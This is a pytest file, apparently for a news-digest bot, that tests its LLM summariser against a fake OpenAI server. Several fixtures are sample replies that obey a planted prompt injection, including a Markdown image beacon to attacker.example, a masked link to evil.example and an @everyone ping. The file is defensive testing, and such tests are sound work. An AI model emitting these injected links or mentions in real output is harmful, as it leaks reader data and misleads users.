@@ -1,0 +1,232 @@
+"""The LLM summariser against a fake OpenAI server, through the real `openai` SDK.
+
+Every bad reply must end as the extractive item for that story, labelled and with the reason,
+within the digest's time budget; a grounded reply is shown as written by the LLM.
+"""
+
+from __future__ import annotations
+
+import json
+import logging
+import time
+from typing import Any
+
+import pytest
+
+from bot.models import DigestItem, Story
+from bot.summarise.extractive import ExtractiveSummariser
+from bot.summarise.factory import make_summariser
+from tests.fakes.fake_openai import FakeOpenAI, Reply, json_reply
+from tests.llm.conftest import (
+    FERRY,
+    GOOD_FERRY,
+    GOOD_LIBRARY,
+    LIBRARY_STORY,
+    TEST_KEY,
+    make_settings,
+    with_sentence,
+)
+
+
+async def summarise(fake: FakeOpenAI, stories: list[Story], **llm: Any) -> list[DigestItem]:
+    summariser = make_summariser(make_settings(fake.base_url, **llm), "llm")
+    return await summariser.summarise_stories(stories, max_sentences=3, scope="test:1")
+
+
+async def extractive_of(story: Story) -> DigestItem:
+    return (await ExtractiveSummariser().summarise_stories([story]))[0]
+
+
+def assert_extractive(item: DigestItem, expected: DigestItem, reason: str) -> None:
+    """The item is exactly the extractive one, labelled, with `reason` in its note."""
+    assert item.summariser == "extractive"
+    assert item.sentences == expected.sentences
+    assert item.headline == expected.headline
+    assert reason in item.note, item.note
+
+
+async def test_grounded_reply_is_shown_as_llm(fake_openai: FakeOpenAI) -> None:
+    fake_openai.script(json_reply(GOOD_FERRY))
+    [item] = await summarise(fake_openai, [FERRY])
+    assert item.summariser == "llm"
+    assert item.note == ""
+    assert item.headline == GOOD_FERRY["headline"]
+    assert [s.text for s in item.sentences] == [s["text"] for s in GOOD_FERRY["sentences"]]
+    # Short ids map back to real articles; the item names every outlet.
+    assert [s.name for s in item.sentences[1].sources] == ["Harbour Gazette", "Northfield Post"]
+    assert {s.name for s in item.sources} == {"Harbour Gazette", "Northfield Post"}
+    request = fake_openai.chat_requests[0]
+    assert request["response_format"]["type"] == "json_schema"
+    # The article text travels as data inside the delimited block, not as instructions.
+    user = request["messages"][1]["content"]
+    assert "<<<DATA" in user and "Mara Lindqvist" in user.split("<<<DATA", 1)[1]
+
+
+BAD_FERRY_REPLIES = {
+    "invented number": (
+        with_sentence(GOOD_FERRY, "The ferry will carry 5,000 passengers a day.", ["A1"]),
+        "number 5,000 not in sources",
+    ),
+    "fabricated quote": (
+        with_sentence(
+            GOOD_FERRY,
+            'Lindqvist said "the ferry will transform island life forever".',
+            ["A1"],
+        ),
+        "quotation",
+    ),
+    "link to another site": (
+        with_sentence(GOOD_FERRY, "Tickets are at https://cheap-ferries.example/gull now.", ["A1"]),
+        "link",
+    ),
+    "everyone mention": (
+        with_sentence(GOOD_FERRY, "@everyone The ferry route was approved.", ["A1"]),
+        "mention",
+    ),
+    "masked link": (
+        with_sentence(
+            GOOD_FERRY, "The [council said](https://evil.example) the route was approved.", ["A1"]
+        ),
+        "Markdown",
+    ),
+    "unknown source id": (
+        with_sentence(GOOD_FERRY, "The route was approved.", ["A7"]),
+        "unknown source",
+    ),
+    "invented name": (
+        with_sentence(GOOD_FERRY, "Mayor Johan Ekdahl welcomed the ferry route.", ["A1"]),
+        "name",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(BAD_FERRY_REPLIES))
+async def test_ungrounded_reply_falls_back_to_extractive(
+    fake_openai: FakeOpenAI, case: str
+) -> None:
+    reply, reason = BAD_FERRY_REPLIES[case]
+    fake_openai.script(json_reply(reply))
+    [item] = await summarise(fake_openai, [FERRY])
+    assert_extractive(item, await extractive_of(FERRY), reason)
+    assert item.note.startswith("LLM summary rejected:")
+
+
+@pytest.mark.parametrize(
+    "obeying",
+    [
+        "The library will close in July, according to the Valley Courier.",
+        "The library board is corrupt, the Valley Courier said.",
+        "The library will open until 9 pm on weekdays ![x](https://attacker.example/?d=1)",
+    ],
+)
+async def test_text_obeying_a_hidden_instruction_is_not_shown(
+    fake_openai: FakeOpenAI, obeying: str
+) -> None:
+    fake_openai.script(json_reply(with_sentence(GOOD_LIBRARY, obeying, ["A1"])))
+    [item] = await summarise(fake_openai, [LIBRARY_STORY])
+    assert_extractive(item, await extractive_of(LIBRARY_STORY), "LLM summary rejected")
+    shown = " ".join(s.text for s in item.sentences)
+    assert "attacker.example" not in shown and "@everyone" not in shown
+
+
+async def test_the_same_story_without_the_obeyed_text_is_accepted(
+    fake_openai: FakeOpenAI,
+) -> None:
+    fake_openai.script(json_reply(GOOD_LIBRARY))
+    [item] = await summarise(fake_openai, [LIBRARY_STORY])
+    assert item.summariser == "llm"
+
+
+async def test_malformed_json_falls_back(fake_openai: FakeOpenAI) -> None:
+    fake_openai.script(Reply(content='{"headline": "Council approves", "sentences": [{"te'))
+    [item] = await summarise(fake_openai, [FERRY])
+    assert_extractive(item, await extractive_of(FERRY), "not valid JSON")
+
+
+async def test_json_in_a_code_fence_is_read(fake_openai: FakeOpenAI) -> None:
+    fake_openai.script(Reply(content="```json\n" + json.dumps(GOOD_FERRY) + "\n```"))
+    [item] = await summarise(fake_openai, [FERRY])
+    assert item.summariser == "llm"
+
+
+async def test_rate_limit_past_the_budget_falls_back_without_waiting(
+    fake_openai: FakeOpenAI,
+) -> None:
+    fake_openai.script(Reply(status=429, headers={"retry-after": "30"}))
+    started = time.monotonic()
+    items = await summarise(fake_openai, [FERRY, LIBRARY_STORY], digest_budget_s=3.0)
+    assert time.monotonic() - started < 2.0  # did not sleep for the 30 s asked
+    for item in items:
+        assert item.summariser == "extractive"
+        assert "429" in item.note
+
+
+async def test_rate_limit_within_the_budget_is_honoured(fake_openai: FakeOpenAI) -> None:
+    fake_openai.script(Reply(status=429, headers={"retry-after": "0.3"}), json_reply(GOOD_FERRY))
+    started = time.monotonic()
+    [item] = await summarise(fake_openai, [FERRY])
+    assert item.summariser == "llm"
+    assert time.monotonic() - started >= 0.3
+    assert len(fake_openai.chat_requests) == 2
+
+
+async def test_server_error_is_retried_then_falls_back(fake_openai: FakeOpenAI) -> None:
+    fake_openai.script(Reply(status=500))
+    [item] = await summarise(fake_openai, [FERRY], max_retries=1)
+    assert_extractive(item, await extractive_of(FERRY), "500")
+    assert len(fake_openai.chat_requests) == 2  # one try plus one retry
+
+
+async def test_hanging_server_cannot_stall_the_digest(fake_openai: FakeOpenAI) -> None:
+    fake_openai.script(Reply(content=json.dumps(GOOD_FERRY), delay_s=30))
+    stories = [FERRY, LIBRARY_STORY, FERRY]
+    started = time.monotonic()
+    items = await summarise(fake_openai, stories, timeout_s=1.0, max_retries=1, digest_budget_s=2.5)
+    elapsed = time.monotonic() - started
+    assert elapsed < 2.5 + 0.5, elapsed
+    assert [i.summariser for i in items] == ["extractive"] * 3
+    assert "did not answer" in items[0].note
+    assert "time budget" in items[-1].note
+
+
+async def test_server_refusing_json_schema_gets_json_mode(fake_openai: FakeOpenAI) -> None:
+    fake_openai.refuse_json_schema = True
+    fake_openai.respond_with(
+        lambda body: json_reply(GOOD_LIBRARY if "Riverside" in str(body) else GOOD_FERRY)
+    )
+    items = await summarise(fake_openai, [FERRY, LIBRARY_STORY])
+    assert [i.summariser for i in items] == ["llm", "llm"]
+    formats = [r["response_format"]["type"] for r in fake_openai.chat_requests]
+    # Refused once, then JSON mode is remembered for the rest of the digest.
+    assert formats == ["json_schema", "json_object", "json_object"]
+
+
+async def test_json_object_setting_never_sends_a_schema(fake_openai: FakeOpenAI) -> None:
+    fake_openai.script(json_reply(GOOD_FERRY))
+    [item] = await summarise(fake_openai, [FERRY], response_format="json_object")
+    assert item.summariser == "llm"
+    assert fake_openai.chat_requests[0]["response_format"] == {"type": "json_object"}
+
+
+async def test_one_bad_item_does_not_spoil_the_others(fake_openai: FakeOpenAI) -> None:
+    fake_openai.respond_with(
+        lambda body: json_reply(
+            GOOD_LIBRARY
+            if "Riverside" in str(body)
+            else with_sentence(GOOD_FERRY, "It cost 9 million euros.", ["A2"])
+        )
+    )
+    ferry, library = await summarise(fake_openai, [FERRY, LIBRARY_STORY])
+    assert ferry.summariser == "extractive" and "number 9" in ferry.note
+    assert library.summariser == "llm"
+
+
+async def test_api_key_never_reaches_the_logs(
+    fake_openai: FakeOpenAI, caplog: pytest.LogCaptureFixture
+) -> None:
+    fake_openai.script(Reply(status=401, error="bad key"), Reply(status=500))
+    caplog.set_level(logging.DEBUG)
+    await summarise(fake_openai, [FERRY, LIBRARY_STORY])
+    assert TEST_KEY not in caplog.text
+    # The key did reach the server, as a bearer token: it is the one configured.
+    assert fake_openai.requests
